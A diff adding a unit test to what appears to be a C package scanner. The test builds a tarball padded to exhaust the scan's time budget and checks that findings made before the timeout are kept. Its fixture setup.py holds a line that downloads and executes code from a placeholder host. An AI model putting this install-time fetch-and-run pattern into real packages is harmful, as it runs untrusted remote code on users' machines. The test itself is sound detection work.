@@ -330,6 +330,59 @@ out_of_time(void **state)
 	ordinary_file(state);
 }
 
+/* An installer that acts, before more code than the time is enough for. */
+static void
+exhausting_make(struct buf *out)
+{
+	static const char setup[] = "import urllib.request\n"
+	    "exec(urllib.request.urlopen('https://x.example.invalid/a')"
+	    ".read())\n";
+	struct archive	*a = archive_write_new();
+	struct buf	 code = BUF_EMPTY;
+	char		 path[64];
+
+	for (int i = 0; i < 12000; i++)
+		buf_addf(&code, "def f%d(a, b=%d):\n    return [a] * b\n", i,
+		    i);
+	archive_write_add_filter_gzip(a);
+	archive_write_set_format_pax(a);
+	archive_write_open2(a, out, NULL, collect, NULL, NULL);
+	member_add(a, "foo-1.0/setup.py", setup, sizeof(setup) - 1);
+	for (int i = 0; i < 200; i++) {
+		(void)snprintf(path, sizeof(path), "foo-1.0/m%d.py", i);
+		member_add(a, path, code.data, code.len);
+	}
+	archive_write_close(a);
+	archive_write_free(a);
+	buf_release(&code);
+}
+
+/* What was found before the time was up is not lost. */
+static void
+answers_so_far(void **state)
+{
+	struct buf		b = BUF_EMPTY;
+	struct features		f;
+	struct msg_inspected	end;
+	char			sha256[SHA256_HEX + 1];
+	bool			found = false;
+
+	(void)state;
+	exhausting_make(&b);
+	sha256_hex(b.data, b.len, sha256);
+	assert_int_equal(inspect("foo-1.0.tar.gz", &b, &f, &end), 1);
+	assert_false(end.clean);
+	assert_true(end.timed_out);
+	assert_string_equal(f.sha256, sha256);
+	for (size_t i = 0; i < f.nfindings; i++)
+		found = found || (f.findings[i].context == CONTEXT_INSTALL &&
+		    strcmp(f.findings[i].rule, "exec-downloaded") == 0);
+	assert_true(found);
+	features_release(&f);
+	buf_release(&b);
+	ordinary_file(state);
+}
+
 /* Several at once, more than it ever asked for: each is answered. */
 static void
 many_at_once(void **state)
@@ -392,6 +445,8 @@ main(void)
 		cmocka_unit_test_setup_teardown(nobody_listens, start_plain,
 		    stop),
 		cmocka_unit_test_setup_teardown(out_of_time, start_hasty,
+		    stop),
+		cmocka_unit_test_setup_teardown(answers_so_far, start_hasty,
 		    stop),
 		cmocka_unit_test_setup_teardown(many_at_once, start_plain,
 		    stop),
